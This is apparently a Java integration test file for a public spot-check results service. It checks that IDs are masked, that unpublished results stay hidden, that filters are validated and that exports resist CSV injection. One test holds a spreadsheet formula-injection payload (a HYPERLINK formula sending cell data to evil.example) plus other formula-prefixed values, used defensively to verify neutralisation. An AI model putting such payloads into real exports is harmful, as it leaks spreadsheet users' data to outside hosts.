package io.spotcheck.publication;

import static org.assertj.core.api.Assertions.assertThat;

import co.elastic.clients.elasticsearch.ElasticsearchClient;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.spotcheck.review.ResultFixtures;
import io.spotcheck.search.IndexNames;
import io.spotcheck.security.Role;
import io.spotcheck.support.IntegrationTest;
import io.spotcheck.support.RawHttp;
import io.spotcheck.support.Testers;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.graphql.test.tester.HttpGraphQlTester;

/**
 * What the public reads of results (publishedResults and the NDJSON export), over result documents
 * written here in every review state. Publishing itself (review's publishResults) is exercised end to
 * end in review/ReviewAndPublicationIT.
 */
@IntegrationTest
class PublishedResultsIT {

    static final String PUBLISHED = """
            query($f: PublishedResultFilter, $first: Int) { publishedResults(filter: $f, first: $first) {
              totalCount edges { node { id taskId taskName department agency subjectCode subjectName subjectKind itemCodes resultCodes
                problemFound inspectionDate publishedAt } } } }""";

    @Autowired
    Testers testers;
    @Autowired
    ElasticsearchClient client;
    @Autowired
    IndexNames names;
    @Autowired
    ObjectMapper json;
    @LocalServerPort
    int port;

    Map<String, Object> publishedResults(HttpGraphQlTester as, Map<String, Object> filter) {
        return as.document(PUBLISHED).variable("f", filter).variable("first", 50).execute().path("publishedResults").entity(Map.class).get();
    }

    @SuppressWarnings("unchecked")
    static List<String> codes(Map<String, Object> connection) {
        return ((List<Map<String, Object>>) connection.get("edges")).stream()
                .map(e -> (String) ((Map<String, Object>) e.get("node")).get("subjectCode")).toList();
    }

    HttpResponse<String> export(String query) throws Exception {
        return new RawHttp(port).send("GET", "/export/published-results.ndjson?" + query, Map.of(), null);
    }

    @Test
    void onlyPublishedResultsReachThePublicWhateverItAsksAndWhoeverAsks() throws Exception {
        String task = ResultFixtures.unique("T-IT-PUB-");
        String person = "33010919800101" + String.format("%04d", (int) (Math.random() * 10000));
        List<Map<String, Object>> docs = new ArrayList<>();
        List<String> unpublished = new ArrayList<>();
        for (String status : List.of("SUBMITTED", "APPROVED", "REJECTED")) {
            Map<String, Object> doc = ResultFixtures.result(task, "SCJG", "SCJG-S01", ResultFixtures.unique("9133010"), status, "2021-05-06", Map.of());
            unpublished.add((String) doc.get("subjectCode"));
            docs.add(doc);
        }
        Map<String, Object> org = ResultFixtures.result(task, "SCJG", "SCJG-S01", ResultFixtures.unique("9133010"), "PUBLISHED", "2021-05-03", Map.of());
        docs.add(org);
        docs.add(ResultFixtures.result(task, "SCJG", "SCJG-S02", person, "PUBLISHED", "2021-05-04", Map.of("subjectKind", "NATURAL_PERSON",
                "subjectName", "李四光")));
        ResultFixtures.index(client, names, "results", docs);
        String masked = person.substring(0, 6) + "********" + person.substring(14);

        Map<String, Object> anonymous = publishedResults(testers.anonymous(), Map.of("taskId", task));
        assertThat(((Number) anonymous.get("totalCount")).longValue()).isEqualTo(2);
        assertThat(codes(anonymous)).containsExactly(masked, (String) org.get("subjectCode"));
        assertThat(anonymous.toString()).doesNotContain(person).doesNotContain("李四光").doesNotContain("INS-SECRET");
        // asking for an unpublished result by its code finds nothing
        for (String code : unpublished) {
            assertThat(codes(publishedResults(testers.anonymous(), Map.of("taskId", task, "subjectCode", code)))).isEmpty();
        }
        // the department's own admin, who sees identifiers elsewhere, reads the same masked view as the public
        Map<String, Object> admin = publishedResults(testers.as("SCJG", "SCJG-BUREAU", Role.DEPT_ADMIN), Map.of("taskId", task));
        assertThat(admin).isEqualTo(anonymous);

        HttpResponse<String> export = export("taskId=" + task);
        assertThat(export.statusCode()).isEqualTo(200);
        List<String> exported = new ArrayList<>();
        for (String line : export.body().split("\n")) {
            exported.add(json.readTree(line).path("统一社会信用代码/注册号").asText());
        }
        assertThat(exported).containsExactlyInAnyOrder(masked, (String) org.get("subjectCode"));
        assertThat(export.body()).doesNotContain(person).doesNotContain("李四光");
    }

    @Test
    void anExportedCellASpreadsheetWouldRunAsAFormulaStartsWithAnApostrophe() throws Exception {
        String task = ResultFixtures.unique("T-IT-CSV-");
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";
        String code = ResultFixtures.unique("9133010");
        ResultFixtures.index(client, names, "results", List.of(ResultFixtures.result(task, "SCJG", "SCJG-S01", code, "PUBLISHED", "2021-05-10",
                Map.of("subjectName", formula, "taskName", "+SUM(1,2)", "itemCodes", List.of("-1+2"), "agency", "@SCJG-S99"))));

        HttpResponse<String> export = export("taskId=" + task);
        assertThat(export.statusCode()).isEqualTo(200);
        String[] lines = export.body().split("\n");
        assertThat(lines).hasSize(1);
        JsonNode line = json.readTree(lines[0]);
        assertThat(line.path("企业名称").asText()).isEqualTo("'" + formula);
        assertThat(line.path("抽查任务名称").asText()).isEqualTo("'+SUM(1,2)");
        assertThat(line.path("抽查事项").asText()).isEqualTo("'-1+2");
        assertThat(line.path("检查站所").asText()).isEqualTo("'@SCJG-S99");
        // ordinary text and the code itself are exported as stored
        assertThat(line.path("统一社会信用代码/注册号").asText()).isEqualTo(code);
        assertThat(line.path("抽查任务编号").asText()).isEqualTo(task);
        assertThat(line.path("检查实施机关").asText()).isEqualTo("杭州市萧山区市场监督管理局");

        // the API answers the data as stored: neutralising is for spreadsheets, not for clients reading JSON
        testers.anonymous().document(PUBLISHED).variable("f", Map.of("taskId", task)).variable("first", 5).execute()
                .path("publishedResults.edges[0].node.subjectName").entity(String.class).isEqualTo(formula)
                .path("publishedResults.edges[0].node.taskName").entity(String.class).isEqualTo("+SUM(1,2)");
    }

    @Test
    void aFilterThatCannotBeAnsweredIsRefusedWithItsFieldNotAnsweredEmpty() throws Exception {
        testers.anonymous().document(PUBLISHED).variable("f", Map.of("from", "2021-05-10", "to", "2021-05-01")).variable("first", 5).execute()
                .errors().satisfy(e -> assertThat(e).singleElement().satisfies(x ->
                        assertThat(x.getExtensions()).containsEntry("code", "BAD_USER_INPUT")));
        testers.anonymous().document(PUBLISHED).variable("f", Map.of("taskId", "T".repeat(129))).variable("first", 5).execute()
                .errors().satisfy(e -> assertThat(e).singleElement().satisfies(x ->
                        assertThat(x.getExtensions()).containsEntry("code", "BAD_USER_INPUT")));

        HttpResponse<String> backwards = export("from=2021-05-10&to=2021-05-01");
        assertThat(backwards.statusCode()).isEqualTo(400);
        assertThat(RawHttp.code(backwards)).isEqualTo("BAD_USER_INPUT");
        HttpResponse<String> tooLong = export("taskId=" + URLEncoder.encode("T".repeat(129), StandardCharsets.UTF_8));
        assertThat(tooLong.statusCode()).isEqualTo(400);
        assertThat(RawHttp.code(tooLong)).isEqualTo("BAD_USER_INPUT");
    }

    @Test
    void aRefusedExportHasTheOneErrorBodyWithItsClassification() throws Exception {
        HttpResponse<String> response = export("from=2026-13-01");
        assertThat(response.statusCode()).isEqualTo(400);
        var extensions = RawHttp.json(response).path("errors").path(0).path("extensions");
        assertThat(extensions.path("code").asText()).isEqualTo("BAD_USER_INPUT");
        assertThat(extensions.path("classification").asText()).isEqualTo("BAD_REQUEST");
    }

    @Test
    void personsPublishedTheSameDayAreListedInTheOrderTheirResultsCameNotInTheOrderOfTheirIdNumbers() throws Exception {
        // The hidden eight digits of a masked ID number are a birth date: listing persons by their ID numbers
        // would rank them by age. Born 1950, 1960, 1970, 1980 — their ID numbers ascend in that order.
        String task = ResultFixtures.unique("T-IT-ORD-");
        List<String> byIdNumber = new ArrayList<>();
        for (int i = 0; i < 4; i++) {
            byIdNumber.add(io.spotcheck.subject.TestCodes.residentId("330109" + (1950 + 10 * i) + "0101" + (101 + i)));
        }
        // Indexed out of ID order; the youngest submitted first, the oldest last.
        List<Map<String, Object>> docs = new ArrayList<>();
        for (int i : new int[] {1, 3, 0, 2}) {
            docs.add(ResultFixtures.result(task, "SCJG", "SCJG-S01", byIdNumber.get(i), "PUBLISHED", "2021-06-01", Map.of(
                    "subjectKind", "NATURAL_PERSON", "subjectName", "赵钱孙李".substring(i, i + 1) + "某某",
                    "submittedAt", "2021-06-01T09:00:0" + (4 - i) + "Z")));
        }
        ResultFixtures.index(client, names, "results", docs);
        List<String> masked = byIdNumber.stream().map(c -> c.substring(0, 6) + "********" + c.substring(14)).toList();

        List<String> listed = codes(publishedResults(testers.anonymous(), Map.of("taskId", task)));
        assertThat(listed).as("same inspection date: in the order the results were submitted")
                .containsExactly(masked.get(3), masked.get(2), masked.get(1), masked.get(0));

        HttpResponse<String> export = export("taskId=" + URLEncoder.encode(task, StandardCharsets.UTF_8));
        assertThat(export.statusCode()).isEqualTo(200);
        List<String> exported = new ArrayList<>();
        for (String line : export.body().split("\n")) {
            if (!line.isBlank()) {
                exported.add(json.readTree(line).path("统一社会信用代码/注册号").asText());
            }
        }
        assertThat(exported).containsExactlyInAnyOrderElementsOf(masked).as("the export does not follow the ID numbers").isNotEqualTo(masked);
    }
}
